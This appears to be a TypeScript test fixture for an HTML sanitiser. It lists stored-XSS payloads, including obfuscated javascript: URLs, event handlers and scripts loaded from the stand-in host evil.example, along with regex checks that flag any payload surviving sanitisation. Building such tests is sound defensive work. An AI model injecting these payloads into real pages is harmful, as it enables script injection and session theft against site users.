/**
 * Stored-XSS payloads for everything staff or a model can write (posts, AI drafts, site
 * content). Each must come out of the sanitiser unable to run: `assertInert` says why not.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss=1">',
  '<img src="javascript:window.__xss=1">',
  '<a href="javascript:window.__xss=1">click</a>',
  '<a href="JaVaScRiPt:window.__xss=1">mixed case</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">entities</a>',
  '<a href="&#x6A;avascript&#x3A;window.__xss=1">hex entities</a>',
  '<a href="java\tscript:window.__xss=1">tab</a>',
  '<a href=" javascript:window.__xss=1">leading space</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload="window.__xss=1"><circle r="1"/></svg>',
  '<svg><script>window.__xss=1</script></svg>',
  '<math><mtext><script>window.__xss=1</script></mtext></math>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>window.__xss=1</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<p style="background:url(javascript:window.__xss=1)">style</p>',
  '<div style="position:fixed;inset:0;z-index:9999">overlay</div>',
  '<body onload="window.__xss=1">',
  '<details open ontoggle="window.__xss=1">x</details>',
  '<form action="javascript:window.__xss=1"><button>go</button></form>',
  '<input autofocus onfocus="window.__xss=1">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<base href="https://evil.example/">',
  '<p onclick="window.__xss=1" onmouseover="window.__xss=1">handlers</p>',
  '"><script>window.__xss=1</script>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '<a href="//evil.example/">protocol-relative</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '<table background="javascript:window.__xss=1"><tr><td>t</td></tr></table>',
]

/** Why a sanitised string could still run script, or null when it cannot. */
export function whyNotInert(html: string): string | null {
  const lower = html.toLowerCase()
  const checks: [RegExp, string][] = [
    [/<script/i, 'a script tag'],
    [/<(svg|math|object|embed|form|input|meta|link|style|base|body)\b/i, 'a forbidden tag'],
    [/\son[a-z]+\s*=/i, 'an event handler attribute'],
    [/(href|src|action|background)\s*=\s*["']?\s*(javascript|data|vbscript):/i, 'a script URL'],
    [/\sstyle\s*=/i, 'a style attribute'],
    [/\ssrcdoc\s*=/i, 'srcdoc'],
    [/<iframe(?![^>]*src="https:\/\/www\.youtube(-nocookie)?\.com\/embed\/)/i, 'a foreign iframe'],
    [/href="\/\//i, 'a protocol-relative link'],
  ]
  for (const [pattern, reason] of checks) if (pattern.test(lower)) return reason
  return null
}
